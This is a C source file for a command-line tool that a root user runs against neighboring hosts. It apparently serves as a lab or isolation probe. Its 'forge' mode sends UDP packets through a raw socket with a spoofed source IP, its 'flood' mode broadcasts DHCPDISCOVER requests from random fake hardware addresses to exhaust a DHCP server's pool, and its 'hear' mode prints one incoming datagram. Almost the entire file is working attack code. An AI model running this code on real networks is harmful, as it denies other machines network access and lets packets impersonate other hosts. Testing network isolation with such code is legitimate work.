/*
 * What a machine's root tries against its neighbors: "neighbor forge SOURCE DESTINATION PORT WORD" sends a datagram of
 * UDP in the name of another, "neighbor flood SECONDS" asks for addresses for made-up hardware addresses,
 * and "neighbor hear PORT" prints the first datagram that comes. It ends after ten minutes at the latest.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define LIFE_SECONDS 600

static int forge(char **words)
{
	struct {
		struct iphdr ip;
		struct udphdr udp;
		char content[64];
	} packet = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP}};
	size_t length = (size_t)snprintf(packet.content, sizeof(packet.content), "%s\n", words[3]);
	size_t whole = sizeof(packet.ip) + sizeof(packet.udp) + length;
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(words[1])};
	packet.ip.saddr = inet_addr(words[0]);
	packet.ip.daddr = to.sin_addr.s_addr;
	packet.udp.source = htons(5000);
	packet.udp.dest = htons((uint16_t)atoi(words[2]));
	packet.udp.len = htons((uint16_t)(sizeof(packet.udp) + length));
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0 || sendto(raw, &packet, whole, 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("forge");
		return 1;
	}
	return 0;
}

/* RFC 2131, 2: the beginning of a DHCPDISCOVER. */
static int flood(int seconds)
{
	unsigned char message[300] = {1, 1, 6};
	memcpy(message + 236, "\x63\x82\x53\x63\x35\x01\x01\xff", 8);
	struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(68)};
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(67), .sin_addr.s_addr = INADDR_BROADCAST};
	int on = 1, asking = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(asking, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	setsockopt(asking, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	setsockopt(asking, SOL_SOCKET, SO_BINDTODEVICE, "eth0", 5);
	if (bind(asking, (struct sockaddr *)&from, sizeof(from)) < 0) {
		perror("flood");
		return 1;
	}
	puts("flooding");
	fflush(stdout);
	for (time_t end = time(NULL) + seconds; time(NULL) < end;)
		for (int i = 0; i < 200; i++) {
			uint32_t made_up = (uint32_t)random();
			memcpy(message + 4, &made_up, sizeof(made_up));
			memcpy(message + 30, &made_up, sizeof(made_up));
			message[29] = 0x16;
			(void)!sendto(asking, message, sizeof(message), 0, (struct sockaddr *)&to, sizeof(to));
		}
	return 0;
}

static int hear(const char *port)
{
	char content[64] = "";
	struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	int hearing = socket(AF_INET, SOCK_DGRAM, 0);
	if (bind(hearing, (struct sockaddr *)&here, sizeof(here)) < 0) {
		perror("hear");
		return 1;
	}
	puts("hearing");
	fflush(stdout);
	if (recv(hearing, content, sizeof(content) - 1, 0) > 0)
		fputs(content, stdout);
	return 0;
}

int main(int count, char **words)
{
	alarm(LIFE_SECONDS);
	if (count == 6 && !strcmp(words[1], "forge"))
		return forge(words + 2);
	if (count == 3 && !strcmp(words[1], "flood"))
		return flood(atoi(words[2]));
	if (count == 3 && !strcmp(words[1], "hear"))
		return hear(words[2]);
	return 64;
}
